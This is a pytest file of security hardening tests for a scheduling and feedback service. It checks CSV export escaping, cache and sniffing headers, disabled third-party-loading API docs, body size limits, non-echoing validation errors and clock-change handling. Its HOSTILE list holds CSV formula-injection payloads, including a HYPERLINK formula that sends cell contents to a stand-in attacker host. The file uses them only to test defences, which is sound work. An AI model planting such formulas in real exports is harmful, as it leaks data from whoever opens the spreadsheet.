"""Hardening (issue 16, item 8), each attack against the running services; before = the code at 9f908ae.

- A CSV cell a spreadsheet runs as a formula: before, the feedback CSV wrote ``=HYPERLINK(...)`` as
  it came and the hours CSV a note starting with a tab and ``=``; after, both start with ``'``.
- JSON and CSV answers (a booking behind its secret link, a report) cached or sniffed: before, no
  ``Cache-Control``, ``nosniff`` or ``Referrer-Policy`` on them; after, on every answer.
- /docs and /redoc loaded Swagger UI and ReDoc from cdn.jsdelivr.net: before 200 with the CDN in
  the page; after 404 (unless BRUG_API_DOCS=true, for development); /openapi.json stays.
- A 2 MiB body: before parsed (and answered 422 or 201); after 413 naming the limit, with and
  without Content-Length.
- A 422 echoing what was typed: before, a refused phone number and a short password came back in
  ``input``; after, only ``loc``, ``msg`` and ``type``.
- A weekly series across the night the clocks go forward: before, the 02:30–03:00 date became a
  session from 03:30 to 03:00; after, that date is left out as ``NotOnTheClock``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from typing import Any

import httpx
import pytest

from feedback.reports.csv_export import to_csv
from scheduler.hours.schemas import EntryPublic, MonthTotals
from scheduler.hours.statement import statement_csv
from tests.security.world import Services
from tests.support.config import ADMIN_EMAIL, ADMIN_PASSWORD
from tests.support.factories import make_session, make_venue, signed_in

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def clients(services: Services) -> Iterator[dict[str, httpx.Client]]:
    """A client of each service, and the coordinator's (``"coordinator"``), closed after the test."""
    made = {name: services.client(name) for name in ("scheduler", "notifier", "feedback")}
    made["coordinator"] = signed_in(services.client("scheduler"), ADMIN_EMAIL, ADMIN_PASSWORD)
    yield made
    for client in made.values():
        client.close()


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_csv_cell_runs_as_a_formula(hostile: str) -> None:
    cells = dict(csv.reader(io.StringIO(to_csv({"title": hostile, "answers": 12, "change": -3}))))
    assert cells["title"] == "'" + hostile and cells["change"] == "-3"  # numbers stay numbers
    entry = EntryPublic.model_construct(
        date=date(2026, 5, 4), kind="admin", session_id=None, hours=Decimal(1), travel_cost=Decimal(0),
        allowance=Decimal(0), note=hostile,
    )  # fmt: skip
    totals = MonthTotals.model_construct(
        session_hours=Decimal(0), unpaid_hours=Decimal(1), travel_cost=Decimal(0), allowance=Decimal(0),
        cap=None, cap_source=None, warning=None,
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(statement_csv([entry], totals))))
    assert rows[1][6] == "'" + hostile


def test_json_and_csv_answers_are_not_cached_sniffed_or_referred(clients: dict[str, httpx.Client]) -> None:
    for name in ("scheduler", "notifier", "feedback"):
        answer = clients[name].get("/healthz")
        for header, value in {
            "cache-control": "no-store",
            "x-content-type-options": "nosniff",
            "referrer-policy": "no-referrer",
        }.items():
            assert answer.headers.get(header) == value, (name, header, answer.headers)
    session = make_session(clients["coordinator"])
    booking = clients["scheduler"].post(f"/api/v1/sessions/{session['id']}/bookings", json={"locale": "ar"})
    assert booking.status_code == 201 and booking.headers["cache-control"] == "no-store"


def test_api_docs_make_no_third_party_request_they_are_off(clients: dict[str, httpx.Client]) -> None:
    for name in ("scheduler", "notifier", "feedback"):
        client = clients[name]
        for path in ("/docs", "/redoc", "/docs/oauth2-redirect"):
            answer = client.get(path)
            assert answer.status_code == 404 and "cdn" not in answer.text, (name, path)
    assert clients["scheduler"].get("/openapi.json").status_code == 200  # the contract stays served


def test_a_body_over_the_limit_is_413_with_and_without_content_length(clients: dict[str, httpx.Client]) -> None:
    big = b'{"locale": "ar", "nickname": "' + b"x" * (2 * 1024 * 1024) + b'"}'
    for name, path in (
        ("scheduler", "/api/v1/sessions/x/bookings"),
        ("notifier", "/api/v1/sms/status/twilio"),
        ("feedback", "/f/x"),
    ):
        client = clients[name]
        sized = client.post(path, content=big, headers={"content-type": "application/json"})
        streamed = client.post(
            path, content=iter([big[:1024], big[1024:]]), headers={"content-type": "application/json"}
        )
        # without Content-Length a route that never reads the body (the notifier checks a signature, the feedback page a CSRF token
        # first) answers as it would anyway; one that reads it gets the 413
        for answer in (sized, streamed) if name == "scheduler" else (sized,):
            assert answer.status_code == 413, (name, answer.status_code, answer.text[:200])
            assert answer.json()["error"] == "RequestTooLarge" and "BRUG_MAX_BODY_BYTES" in answer.json()["detail"]


def test_a_422_does_not_echo_a_phone_number_or_a_password(clients: dict[str, httpx.Client]) -> None:
    coordinator = clients["coordinator"]
    session = make_session(coordinator)
    phone = clients["scheduler"].post(
        f"/api/v1/sessions/{session['id']}/bookings", json={"locale": "ar", "phone": "06 97531864"}
    )
    password = coordinator.post(
        "/api/v1/users",
        json={"email": "x@example.org", "display_name": "X", "role": "ambassador", "password": "Sh0rt!pw"},
    )
    for answer, secret in ((phone, "97531864"), (password, "Sh0rt!pw")):
        assert answer.status_code == 422, answer.text
        assert secret not in answer.text and all(set(e) == {"loc", "msg", "type"} for e in answer.json()["detail"])


def _series(client: httpx.Client, starts_at: str, ends_at: str, rrule: str) -> httpx.Response:
    template = make_session(client, make_venue(client))
    keys = ("venue_id", "room_id", "languages", "audience", "topics", "internal_title", "public_title", "provider_id")
    body: dict[str, Any] = {key: template[key] for key in keys}
    return client.post(
        "/api/v1/sessions/series",
        json={**body, "capacity": 10, "starts_at": starts_at, "ends_at": ends_at, "rrule": rrule},
    )


def test_a_weekly_series_over_the_spring_clock_change_keeps_its_time_or_leaves_the_date_out(
    clients: dict[str, httpx.Client],
) -> None:
    coordinator = clients["coordinator"]
    # Sundays 02:30-03:00 in Amsterdam; on 28 March 2027 the clocks jump from 02:00 to 03:00
    answer = _series(coordinator, "2027-03-21T02:30:00+01:00", "2027-03-21T03:00:00+01:00", "FREQ=WEEKLY;COUNT=3")
    assert answer.status_code in (201, 422), answer.text
    body = answer.json()
    created = body.get("created", [])
    assert all(s["ends_at"] > s["starts_at"] for s in created), created
    reasons = body["detail"] if answer.status_code == 422 else str(body["skipped"])
    assert "NotOnTheClock" in str(body) or "skip 02:30–03:00" in reasons, body
